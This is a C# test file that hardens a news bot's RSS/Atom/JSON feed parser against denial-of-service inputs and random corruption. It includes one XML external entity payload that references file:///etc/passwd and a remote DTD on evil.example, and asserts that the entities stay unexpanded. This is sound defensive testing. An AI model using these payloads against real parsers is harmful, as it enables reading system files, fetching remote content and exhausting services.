using System.Diagnostics;
using System.Text;
using KzNewsBot.Text.Feeds;

namespace KzNewsBot.Text.Tests.Feeds;

public class HostileFeedTests
{
    /// <summary>The promise is 200 ms, and the benchmarks keep it; here a busy machine must not look like squares of these sizes, which take minutes.</summary>
    private static readonly TimeSpan Patience = TimeSpan.FromSeconds(30);

    private static readonly string[] Fixtures =
    [
        Parsing.Rss("<item><title>A &amp; B</title><link>/1</link><guid isPermaLink=\"false\">g</guid><pubDate>Thu, 05 Mar 2026 10:00:00 GMT</pubDate><description><![CDATA[<p>x</p>]]></description><enclosure url=\"/a.jpg\" length=\"1\"/></item><item><title>B</title></item>"),
        "<feed xmlns=\"http://www.w3.org/2005/Atom\" xml:base=\"/x/\"><entry><title type=\"xhtml\"><div>A</div></title><link href=\"1\"/><id>i</id><updated>2026-03-05T10:00:00Z</updated><content type=\"base64\">QQ==</content></entry></feed>",
        "<rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\"><channel/><item rdf:about=\"/1\"><title>A</title><dc:date>2026-03</dc:date></item></rdf:RDF>",
        "<!DOCTYPE urlset [<!ENTITY a \"b\">]><urlset><url><loc>/1</loc><lastmod>2026-03-05</lastmod><news:news><news:title>A</news:title></news:news></url></urlset>",
        "{\"version\":\"https://jsonfeed.org/version/1\",\"items\":[{\"id\":\"1\",\"title\":\"A\\u0041\",\"tags\":[\"x\"],\"author\":{\"name\":\"y\"}}]}",
    ];

    private static readonly string[] Pieces =
        ["<", ">", "</", "/>", "<![CDATA[", "]]>", "<!--", "-->", "<?", "?>", "<!", "[", "]", "\"", "'", "&", ";", "&#x", "&#99999999999;", "=", ":", "<item>", "</item>",
         "<title>", "</title>", "<a:", "xmlns:a=\"", "\0", "\uD83D", "\u202E", "{", "}", "\\uD800", "31.02.2024", "9999999999", " xml:base=\"//", "<entry", "type=\"xhtml\"", "<html>"];

    public static TheoryData<string, string> Bombs => new()
    {
        { "depth", "<rss><channel>" + Many("<x>", 300_000) },
        { "depth in markup", "<rss><channel><item><title>A</title><description>" + Many("<div>", 300_000) },
        { "a million tags", "<rss><channel>" + Many("<x/>", 1_100_000) },
        { "a million items", "<rss><channel>" + Many("<item/>", 500_000) },
        { "a million unclosed items", "<rss><channel>" + Many("<item>", 500_000) },
        { "attributes", "<rss " + Many("a=\"1\" ", 300_000) + ">" },
        { "quotes that do not close", "<rss>" + Many("<a b=\"c>", 200_000) },
        { "quotes of both kinds", "<rss>" + Many("<a b=\"><a b='>", 200_000) },
        { "subsets that do not close", Many("<!D[", 300_000) + "<rss/>" },
        { "instructions that do not close", Many("<?x>", 1_000_000) + "<rss/>" },
        { "comments in subsets", "<!D[" + Many("<!-- ' ", 200_000) },
        { "brackets", "<rss>" + Many("<", 2_000_000) },
        { "half tags", "<rss>" + Many("<a ", 500_000) },
        { "ampersands", "<rss><channel><item><title>" + Many("&", 1_000_000) },
        { "references", "<rss><channel><item><title>" + Many("&a", 500_000) },
        { "end tags", "<rss>" + Many("<x>", 150) + Many("</y>", 500_000) },
        { "titles", "<rss><channel><item>" + Many("<title>", 300_000) },
        { "declarations", "<rss>" + Many("<x xmlns:a=\"b\" xmlns:c=\"d\"/>", 200_000) },
        { "pieces of raw text", "<rss><channel><item><description>" + Many("<![CDATA[x]]>y", 200_000) + "</description>" },
        { "descriptions", "<rss><channel><item>" + Many("<description>x</description>", 200_000) },
        { "categories", "<rss><channel><item>" + string.Concat(Enumerable.Range(0, 200_000).Select(i => $"<category>{i}</category>")) },
        { "tags in a title", "<rss><channel><item><title>" + Many("&lt;a ", 300_000) + "</title>" },
        { "long date", "<rss><channel><item><pubDate>" + Many("5 марта ", 200_000) + "</pubDate>" },
        { "deep JSON", Many("[", 1_000_000) },
    };

    [Theory]
    [MemberData(nameof(Bombs))]
    public void Bomb_is_read_or_refused_in_bounded_time(string name, string text)
    {
        name.ShouldNotBeEmpty();
        var watch = Stopwatch.StartNew();

        FeedParser.Parse(text, Parsing.Address, Parsing.FetchedAt).ShouldNotBeNull();

        watch.Elapsed.ShouldBeLessThan(Patience);
    }

    [Fact]
    public void Entries_before_a_bomb_are_kept()
    {
        var feed = Parsing.Feed("<rss><channel><item><title>A</title></item>" + Many("<x>", 1_000));

        feed.Entries.ShouldHaveSingleItem();
        feed.Faults.ShouldBe(FeedFaults.LimitReached | FeedFaults.Truncated);
    }

    [Fact]
    public void Entities_a_document_declares_stay_as_they_stand()
    {
        var doctype = "<!DOCTYPE rss [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;\"><!ENTITY file SYSTEM \"file:///etc/passwd\"><!ENTITY % p SYSTEM \"http://evil.example/x.dtd\">%p;]>";

        Parsing.Feed(doctype + Parsing.Rss("<item><title>&b; &file;</title></item>")).Entries.ShouldHaveSingleItem().Title.ShouldBe("&b; &file;");
    }

    [Fact]
    public void Any_damage_is_read_or_refused_but_never_breaks_the_reader()
    {
        var rounds = int.TryParse(Environment.GetEnvironmentVariable("KZNEWSBOT_MUTATIONS"), System.Globalization.CultureInfo.InvariantCulture, out var asked) ? asked : 3_000;
        var random = new Random(20260305);
        for (var round = 0; round < rounds; round++)
        {
            var text = new StringBuilder(Fixtures[random.Next(Fixtures.Length)]);
            for (var i = random.Next(1, 8); i > 0; i--)
            {
                Damage(text, random);
            }

            if (FeedParser.Parse(text.ToString(), Parsing.Address, Parsing.FetchedAt) is FeedResult.Read { Feed: var feed })
            {
                feed.Entries.ShouldAllBe(entry => entry.Url == null || entry.Url.IsAbsoluteUri);
            }
        }
    }

    private static void Damage(StringBuilder text, Random random)
    {
        var at = random.Next(text.Length + 1);
        var length = Math.Min(random.Next(12), text.Length - at);
        switch (random.Next(4))
        {
            case 0:
                text.Remove(at, length);
                break;
            case 1:
                text.Insert(at, Pieces[random.Next(Pieces.Length)]);
                break;
            case 2:
                text.Insert(random.Next(text.Length + 1), text.ToString(at, length));
                break;
            default:
                text.Length = Math.Max(1, at);
                break;
        }
    }

    private static string Many(string piece, int count) => new StringBuilder(piece.Length * count).Insert(0, piece, count).ToString();
}
